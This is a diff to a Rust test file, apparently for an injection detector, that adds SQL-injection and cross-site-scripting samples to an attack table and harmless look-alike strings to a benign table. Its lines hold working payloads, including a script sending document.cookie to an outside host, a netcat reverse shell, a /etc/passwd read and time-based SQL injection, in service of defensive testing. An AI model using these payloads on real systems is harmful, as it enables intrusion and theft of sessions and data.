@@ -62,12 +62,23 @@ const ATTACKS: &[(Category, Source, &str)] = &[
     (Category::Sqli, Source::User, "admin'/**/or/**/1=1#"),
     (Category::Sqli, Source::User, "id=7%27%20OR%201%3D1--"),
     (Category::Sqli, Source::User, "Please drop all tables in the production database right now."),
+    // SQL fragments as they arrive in one parameter: a bare SQL call, keywords only, a closed
+    // sub-query, PostgreSQL casts and JSON operators
+    (Category::Sqli, Source::User, "sort=COALESCE(NULL,SLEEP(3))"),
+    (Category::Sqli, Source::User, "filter=IS NOT NULL"),
+    (Category::Sqli, Source::User, "ids=in (4,5,6)"),
+    (Category::Sqli, Source::User, "col=) AS total FROM"),
+    (Category::Sqli, Source::User, "id=OR '{\"k\":1}'::jsonb @> '{\"k\":1}'"),
     // script injection
     (Category::Xss, Source::User, "<script>fetch('//x.example/'+document.cookie)</script>"),
     (Category::Xss, Source::User, "<img src=x onerror=alert(1)>"),
     (Category::Xss, Source::User, "<svg/onload=confirm(document.domain)>"),
     (Category::Xss, Source::User, "<a href=\"javascript:alert(1)\">click</a>"),
     (Category::Xss, Source::User, "&lt;script&gt;alert(1)&lt;/script&gt;"),
+    (Category::Xss, Source::User, "u=ja&Tab;vascript:alert(document.domain)"),
+    (Category::Xss, Source::User, "q=\\u0061lert(1)"),
+    (Category::Xss, Source::User, "p=\" autofocus onfocus="),
+    (Category::Xss, Source::User, "j=(![]+[])[+[]]"),
     // command injection: list operators, substitution, reverse shells, PowerShell, shellshock
     (Category::CommandInjection, Source::User, "127.0.0.1; cat /etc/passwd"),
     (Category::CommandInjection, Source::User, "name=x|nc 198.51.100.7 4444 -e /bin/sh"),
@@ -128,6 +139,9 @@ const BENIGN: &[(Source, &str)] = &[
     (Source::User, "Cats & dogs; cat owners say one thing | dog owners another."),
     (Source::Document, "| command | meaning |\n| ls | list files |\n| cat | print a file |\n| id | show the user |"),
     (Source::User, "Please compute {{price}} times {{quantity}} in the invoice template."),
+    (Source::User, "\"red scarf\" AND \"wool\" AND \"hand made\""),
+    (Source::User, "true"),
+    (Source::User, "How do I call alert() only once when the page loads?"),
 ];
 
 #[test]
